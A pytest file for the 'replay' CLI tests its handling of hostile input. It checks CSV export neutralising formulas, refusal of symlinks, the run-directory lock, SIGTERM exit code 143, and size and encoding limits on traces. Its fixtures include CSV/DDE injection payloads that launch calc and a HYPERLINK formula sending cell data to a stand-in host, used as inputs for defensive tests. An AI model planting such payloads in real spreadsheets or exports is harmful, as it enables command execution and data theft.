"""Hostile files and signals, round 4 (issue 42): what ``replay export`` writes, the run
directory's lock, SIGTERM's exit code, and the bounds ``trace validate`` and a run's trace
load put on a check's size and on a trace's encoding.

* Export: a CSV cell that begins as a formula is neutralised (OWASP's leading quote), numbers
  stay numbers; no link planted in the run directory is followed; a damaged results.jsonl is
  read as ``report --reanalyse`` reads it (a cut last line left out, a NaN a one-line error).
* The run directory is one process's: a second ``--resume`` of a running run is refused at
  once, naming the directory and the holder's pid.
* SIGTERM exits 143 (128 + 15), as a shell reports it, with the run directory complete.
* A check's pattern over 10,000 characters, or a schema over 64 KiB, is bad input by file,
  line and field; a UTF-16 or UTF-32 trace is named as such, not as a CSV header problem.

The run tests drive ``replay`` in a subprocess (what a user sees: the exit code, no traceback)
against the in-process fake server of tests/hostile/test_hostile_server.py, slowed so that the
run is still sending when the test acts on it.
"""

from __future__ import annotations

import asyncio
import csv
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from click.testing import CliRunner

from replay.cli import main
from replay.cli.common import guard, install_sigterm
from replay.core.errors import InputError, TraceError
from replay.core.records import Result
from replay.traces.importers import load
from tests.conftest import ROOT
from tests.hostile.test_hostile_server import FakeServer

CHAT = [{"role": "user", "content": "q"}]


def cli(*args: str) -> Any:
    return CliRunner().invoke(main, list(args))


def says(output: str, words: str) -> bool:
    """Whether ``output`` says ``words``, however the console wrapped its lines."""
    return "".join(words.split()) in "".join(output.split())


# -- export: formulas, links, damaged input ----------------------------------------------------


def result(rid: str, text: str, **fields: Any) -> dict[str, Any]:
    row = Result(request_id=rid, target="fp8", phase="c1", bucket="<256", scheduled=10.0)
    row.sent, row.done, row.output_text = 10.5, 11.0, text
    for key, value in fields.items():
        setattr(row, key, value)
    return row.to_json()


def run_dir_of(
    tmp_path: Path, results: list[dict[str, Any]], grades: list[dict[str, Any]] | None = None
) -> Path:
    run = tmp_path / "run"
    run.mkdir()
    (run / "manifest.json").write_text(json.dumps({"targets": {}}), encoding="utf-8")
    (run / "results.jsonl").write_text("".join(json.dumps(r) + "\n" for r in results))
    (run / "grades.jsonl").write_text("".join(json.dumps(g) + "\n" for g in grades or []))
    return run


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


# An answer as a model (or a prompt-injected one) may write it -> the cell a spreadsheet gets.
FORMULAS = {
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?q="&A1,"click")': '\'=HYPERLINK("http://evil.test/?q="&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-5": "-5",  # a plain number: read as the number it is, nothing to run
    "-1.5e3": "-1.5e3",
    "the answer is =1": "the answer is =1",
    # Quoted whole: no reader ends the row at the \r, making "=cmd..." a row's first cell.
    "ok\r=cmd|' /C calc'!A0": "ok\r=cmd|' /C calc'!A0",
}


def test_export_neutralises_formula_cells_and_keeps_numbers(tmp_path: Path) -> None:
    answers = list(FORMULAS)
    results = [result(f"r{k}", text) for k, text in enumerate(answers)]
    results[0]["sent"] = 9.25  # sent before it was scheduled: a negative queue delay
    grades = [
        {
            "target": "fp8",
            "phase": "c1",
            "bucket": "<256",
            "request_id": "=r0",
            "grade": {"passed": False, "reason": '=HYPERLINK("http://evil.test","x")'},
        }
    ]
    run = run_dir_of(tmp_path, results, grades)
    res = cli("export", str(run))
    assert res.exit_code == 0, res.output
    rows = csv_rows(run / "export" / "results.csv")
    assert [r["output_text"] for r in rows] == [FORMULAS[a] for a in answers]
    assert rows[0]["queue_delay_s"] == "-0.75"  # a number is never quoted
    (grade,) = csv_rows(run / "export" / "grades.csv")
    assert grade["grade_reason"] == '\'=HYPERLINK("http://evil.test","x")'
    assert grade["request_id"] == "'=r0"


def test_export_refuses_a_symlinked_export_folder(tmp_path: Path) -> None:
    run = run_dir_of(tmp_path, [result("r0", "ok")])
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (run / "export").symlink_to(elsewhere)
    res = cli("export", str(run))
    assert res.exit_code == 2, res.output
    assert says(res.output, f"error: {run / 'export'}: is a symbolic link"), res.output
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_export_refuses_a_symlinked_output_file(tmp_path: Path, fmt: str) -> None:
    if fmt == "parquet":
        pytest.importorskip("pyarrow", reason="parquet export comes with the data extra")
    run = run_dir_of(tmp_path, [result("r0", "ok")])
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    (run / "export").mkdir()
    (run / "export" / f"results.{fmt}").symlink_to(victim)
    res = cli("export", str(run), "--format", fmt)
    assert res.exit_code == 2, res.output
    assert says(res.output, "is a symbolic link; export never writes through one"), res.output
    assert victim.read_text(encoding="utf-8") == "keep me"


def test_export_leaves_out_a_last_line_a_kill_cut_short(tmp_path: Path) -> None:
    run = run_dir_of(tmp_path, [result("r0", "ok"), result("r1", "ok")])
    with (run / "results.jsonl").open("a", encoding="utf-8") as fh:
        fh.write(json.dumps(result("r2", "ok"))[:40])  # the line being written at the kill
    res = cli("export", str(run))
    assert res.exit_code == 0, res.output
    assert [r["request_id"] for r in csv_rows(run / "export" / "results.csv")] == ["r0", "r1"]


@pytest.mark.parametrize("table", ["results.jsonl", "grades.jsonl"])
def test_export_names_a_nan_line_in_one_line(tmp_path: Path, table: str) -> None:
    grade = {"target": "fp8", "request_id": "r0", "grade": {"passed": True, "score": 1.0}}
    run = run_dir_of(tmp_path, [result("r0", "ok"), result("r1", "ok")], [grade, grade])
    path = run / table
    lines = path.read_text().splitlines()
    lines[1] = lines[1].replace("10.0", "NaN", 1).replace("1.0", "NaN", 1)
    path.write_text("\n".join(lines) + "\n")
    res = cli("export", str(run))
    assert res.exit_code == 2, res.output  # guard's exit for bad input: not a traceback
    assert says(res.output, f"error: {path}:2: not JSON"), res.output


# -- the run directory's lock, and SIGTERM ------------------------------------------------------


class SlowServer(FakeServer):
    """The fake vLLM, answering each streamed request after ``delay_s``; ``asked`` is set at
    the first, when the run is sending."""

    def __init__(self, delay_s: float) -> None:
        super().__init__()
        self.delay_s = delay_s
        self.asked = threading.Event()

    async def _complete(self, request: web.Request) -> web.StreamResponse:
        if (await request.json()).get("stream"):
            self.asked.set()
            await asyncio.sleep(self.delay_s)
        return await super()._complete(request)


@contextmanager
def slow_server(delay_s: float) -> Iterator[SlowServer]:
    server = SlowServer(delay_s)
    server.start()
    try:
        yield server
    finally:
        server.stop()


def replay_args(tmp_path: Path, url: str) -> list[str]:
    trace = tmp_path / "t.jsonl"
    records = [{"id": f"r{i}", "messages": CHAT, "max_tokens": 4} for i in range(8)]
    trace.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    targets = tmp_path / "targets.toml"
    targets.write_text(f'[targets.fake]\nurl = "{url}"\n', encoding="utf-8")
    return [
        *("--trace", str(trace), "--targets", "fake", "--targets-file", str(targets)),
        *("--out", str(tmp_path / "runs"), "--run-id", "r", "--concurrency", "1"),
        *("--timeout", "30", "--drain", "1"),
    ]


def replay_cmd(*args: str) -> list[str]:
    return [sys.executable, "-m", "replay.cli", *args]


ENV = {**os.environ, "NO_COLOR": "1", "COLUMNS": "1000"}


@contextmanager
def running(tmp_path: Path, server: SlowServer) -> Iterator[subprocess.Popen[bytes]]:
    """``replay`` in a subprocess (its output in ``tmp_path/replay.out``), once it is sending;
    killed if the test leaves it running."""
    with (tmp_path / "replay.out").open("wb") as out:
        proc = subprocess.Popen(
            replay_cmd(*replay_args(tmp_path, server.url)),
            cwd=ROOT,
            env=ENV,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    try:
        while not server.asked.wait(0.2):
            assert proc.poll() is None, (tmp_path / "replay.out").read_text()
        yield proc
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()


def test_a_second_resume_of_a_running_run_is_refused_at_once(tmp_path: Path) -> None:
    with slow_server(delay_s=2.0) as server, running(tmp_path, server) as first:
        run_dir = tmp_path / "runs" / "r"
        second = subprocess.run(
            replay_cmd("--resume", str(run_dir)),
            cwd=ROOT,
            env=ENV,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        first_ran_on = first.poll() is None
        first.send_signal(signal.SIGTERM)
        first.wait(timeout=120)
    assert second.returncode == 2, second.stderr
    assert first_ran_on  # the first run was not disturbed by the second
    assert "Traceback" not in second.stderr
    assert says(second.stderr, f"{run_dir}: the run directory is in use"), second.stderr
    assert says(second.stderr, f"(pid {first.pid})"), second.stderr
    # The first run's results are whole: each line one result.
    lines = (run_dir / "results.jsonl").read_text().splitlines()
    assert lines and all(Result.from_json(json.loads(line)) for line in lines)


def test_sigterm_exits_143_with_the_run_directory_complete(tmp_path: Path) -> None:
    with slow_server(delay_s=2.0) as server, running(tmp_path, server) as proc:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=120)
    err = (tmp_path / "replay.out").read_text()
    assert proc.returncode == 143, err
    assert "Traceback" not in err
    run_dir = tmp_path / "runs" / "r"
    manifest = json.loads((run_dir / "manifest.json").read_text())
    assert manifest["interrupted"] is True
    for name in ("summary.json", "report.html", "report.md", "results.jsonl"):
        assert (run_dir / name).is_file(), name
    assert says(err, f"continue with: replay --resume {run_dir}"), err


def test_sigterm_before_the_run_exits_143_too() -> None:
    """A SIGTERM while the trace is read or a server starts (the CLI's handler, not the run's)
    unwinds like Ctrl-C and exits 143, not 130."""

    def work() -> int:
        os.kill(os.getpid(), signal.SIGTERM)
        time.sleep(30)  # the signal interrupts this
        return 0

    before = signal.getsignal(signal.SIGTERM)
    try:
        install_sigterm()
        with pytest.raises(SystemExit) as info:
            guard(work)
    finally:
        signal.signal(signal.SIGTERM, before)
    assert info.value.code == 143


# -- trace validate: a check's size, a trace's encoding ---------------------------------------


def trace_with(tmp_path: Path, check: dict[str, Any]) -> Path:
    path = tmp_path / "t.jsonl"
    records = [{"id": "ok", "messages": CHAT}, {"id": "big", "messages": CHAT, "check": check}]
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


HUGE_CHECKS = {
    "regex": ({"type": "regex", "pattern": "a" * 1_000_000}, "check.pattern", "10,000"),
    "schema-pattern": (
        {
            "type": "json_schema",
            "schema": {"type": "object", "properties": {"a": {"pattern": "b" * 20_000}}},
        },
        "check.schema.properties.a.pattern",
        "10,000",
    ),
    "schema": (
        {
            "type": "json_schema",
            "schema": {
                "type": "object",
                "properties": {f"p{i}": {"type": "string"} for i in range(8_000)},
            },
        },
        "check.schema",
        "64 KiB",
    ),
}


@pytest.mark.parametrize("case", list(HUGE_CHECKS))
def test_a_check_over_its_size_bound_is_bad_input_by_line_and_field(
    tmp_path: Path, case: str
) -> None:
    check, field, bound = HUGE_CHECKS[case]
    path = trace_with(tmp_path, check)
    res = cli("trace", "validate", str(path))
    assert res.exit_code == 2, res.output
    assert says(res.output, f"{path}:2: field '{field}':") and says(res.output, bound), res.output
    with pytest.raises(TraceError) as info:  # and where a run loads its trace
        load(path)
    assert (info.value.line, info.value.field) == (2, field)


@pytest.mark.parametrize(
    ("encoding", "named"),
    [
        ("utf-16", "UTF-16 (UTF-16LE)"),  # Python writes a byte order mark
        ("utf-16-be", "UTF-16 (UTF-16BE)"),  # none
        ("utf-32", "UTF-32 (UTF-32LE)"),
        ("utf-32-le", "UTF-32 (UTF-32LE)"),
    ],
)
def test_a_utf16_or_utf32_trace_is_named_as_an_encoding_error(
    tmp_path: Path, encoding: str, named: str
) -> None:
    path = tmp_path / "t.jsonl"
    line = json.dumps({"id": "a", "messages": CHAT, "check": {"type": "exact", "value": "x,y"}})
    path.write_bytes((line + "\n").encode(encoding))
    res = cli("trace", "validate", str(path))
    assert res.exit_code == 2, res.output
    assert says(res.output, f"{path}:1: field 'encoding': the file is {named}"), res.output
    assert says(res.output, "convert it to UTF-8") and "CSV" not in res.output, res.output
    with pytest.raises(InputError, match="convert it to UTF-8"):
        load(path, "v1")  # a named format too: the bytes are the problem, not the format
